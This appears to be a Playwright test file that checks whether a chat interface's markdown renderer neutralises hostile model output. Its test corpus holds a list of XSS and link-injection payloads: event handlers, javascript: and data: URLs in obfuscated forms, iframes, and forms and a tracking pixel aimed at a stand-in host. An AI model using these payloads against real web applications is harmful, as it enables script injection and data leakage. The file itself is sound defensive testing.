"""The worst that a model may write: no script runs, nothing is fetched, no link leads elsewhere."""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Request, expect

from tests.chat.reading import answered, ask
from tests.chat.scripted import Gate, ScriptedBox, chunk, ending, stream

CORPUS = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg onload='window.hit = 1'><script>window.hit = 1</script></svg>",
    "<svg><a xlink:href='javascript:window.hit=1'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.hit=1'></style></mglyph></table></math>",
    "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
    "<iframe src='javascript:parent.hit=1'></iframe>",
    "<object data='https://evil.example/x'></object><embed src='https://evil.example/x'>",
    "<link rel=stylesheet href='https://evil.example/x.css'><style>@import 'https://evil.example/y.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><button>ok</button></form>",
    "<details open ontoggle='window.hit=1'>x</details>",
    "<video><source onerror='window.hit=1'></video><audio src='https://evil.example/a.mp3' autoplay></audio>",
    "[click](javascript:window.hit=1)",
    "[click](JaVaScRiPt:window.hit=1)",
    "[click](javascript&colon;window.hit=1)",
    "[click](java\tscript:window.hit=1)",
    "[click](&#106;avascript:window.hit=1)",
    "[click](data:text/html,<script>opener.hit=1</script>)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](//evil.example/)",
    "[click](/sign-out)",
    "[click][ref]\n\n[ref]: javascript:window.hit=1",
    "<javascript:window.hit=1>",
    "![x](https://evil.example/pixel.png?stolen=1)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:window.hit=1)",
    '![x"onerror="window.hit=1](https://evil.example/p.png "t\' onerror=\'window.hit=1")',
    '[![x](https://evil.example/p.png)](https://evil.example/"onclick="window.hit=1)',
    '[a](https://evil.example/ "x" onmouseover="window.hit=1")',
    '```js" onload="window.hit=1\n<script>window.hit = 1</script>\n```',
    "```<img src=x onerror=window.hit=1>\ncode\n```",
    "`<img src=x onerror=window.hit=1>`",
    "| <img src=x onerror=window.hit=1> |\n|:-:|\n| <script>window.hit=1</script> |",
    "<p style='background:url(https://evil.example/b.png)'>x</p>",
    "<a href='https://ok.example' style='position:fixed;inset:0' target=_top>x</a>",
    "<!--><img src=x onerror=window.hit=1>-->",
    "<![CDATA[<img src=x onerror=window.hit=1>]]>",
]


@pytest.mark.parametrize("pieces", ["at once", "in pieces"])
def test_nothing_that_a_model_writes_acts(box: ScriptedBox, page: Page, pieces: str) -> None:
    elsewhere: list[str] = []

    def note(request: Request) -> None:
        if urlsplit(request.url).netloc != urlsplit(box.settings.base_url).netloc:
            elsewhere.append(request.url)

    page.context.on("request", note)
    text = "\n\n".join(CORPUS)
    size = len(text) if pieces == "at once" else 7
    parts = [chunk(text[start : start + size]) for start in range(0, len(text), size)]
    box.script = lambda _: stream([*parts, ending()])
    ask(page, "<img src=x onerror=window.hit=1>")
    answer = answered(page)
    for link in answer.locator("a").all():
        link.hover()

    assert page.evaluate("window.hit") is None
    assert elsewhere == []
    found = answer.evaluate(
        """answer => [...answer.querySelectorAll('.chat-prose *')].map(node => ({
            tag: node.tagName, attributes: [...node.attributes].map(({name}) => name),
            href: node.href ?? null, rel: node.rel ?? '', target: node.target ?? ''}))"""
    )
    tags = {node["tag"] for node in found}
    assert not tags & {
        "SCRIPT",
        "IMG",
        "IFRAME",
        "OBJECT",
        "EMBED",
        "STYLE",
        "LINK",
        "META",
        "FORM",
        "VIDEO",
        "AUDIO",
    }
    for node in found:
        assert not [name for name in node["attributes"] if name.startswith("on") or name == "style"]
        if node["tag"] == "A":
            assert str(node["href"]).startswith(("https://", "http://", "mailto:")), node
            assert "noopener" in node["rel"]
            assert node["target"] == "_blank"


def test_good_markdown_is_shown_as_meant(box: ScriptedBox, page: Page) -> None:
    text = (
        "# Title\n\nSome **bold** and `code`, https://ok.example/page and me@ok.example.\n\n"
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nprint('hi')\n```\n\n3. three\n4. four\n\n![plan](https://ok.example/p.png)"
    )
    box.script = lambda _: stream([chunk(text), ending()])
    ask(page, "Show")
    prose = answered(page).locator(".chat-prose")
    expect(prose.get_by_role("heading", name="Title")).to_be_visible()
    expect(prose.locator("strong")).to_have_text("bold")
    expect(prose.get_by_role("cell", name="2")).to_have_class("align-right")
    expect(prose.locator("pre .hljs-built_in")).to_have_text("print")
    expect(prose.locator("ol")).to_have_attribute("start", "3")
    addresses = [link.get_attribute("href") for link in prose.locator("a").all()]
    assert addresses == ["https://ok.example/page", "mailto:me@ok.example", "https://ok.example/p.png"]


def test_open_marks_do_not_flicker_by(box: ScriptedBox, page: Page) -> None:
    gate = Gate()
    box.script = gate.between(
        [chunk("First **bo")], [chunk("ld** and [a li"), chunk("nk](https://ok.example)."), ending()]
    )
    ask(page, "Bold?")
    prose = page.locator(".chat-prose")
    expect(prose).to_have_text("First bo")
    expect(prose.locator("strong")).to_have_text("bo")
    gate.open()
    expect(answered(page).locator(".chat-prose")).to_have_text("First bold and a link.")


def test_code_and_answers_are_copied_as_written(box: ScriptedBox, page: Page) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    text = "Do **this**:\n\n```sh\nls -l | wc -l\n```\n"
    box.script = lambda _: stream([chunk(text), ending()])
    ask(page, "Copy?")
    answer = answered(page)
    answer.locator(".chat-code").get_by_role("button", name="Copy").click()
    expect(answer.locator(".chat-code").get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "ls -l | wc -l\n"
    answer.locator("[data-action=copy]").click()
    expect(answer.locator("[data-action=copy]")).to_have_attribute("aria-label", "Copied")
    assert page.evaluate("navigator.clipboard.readText()") == text
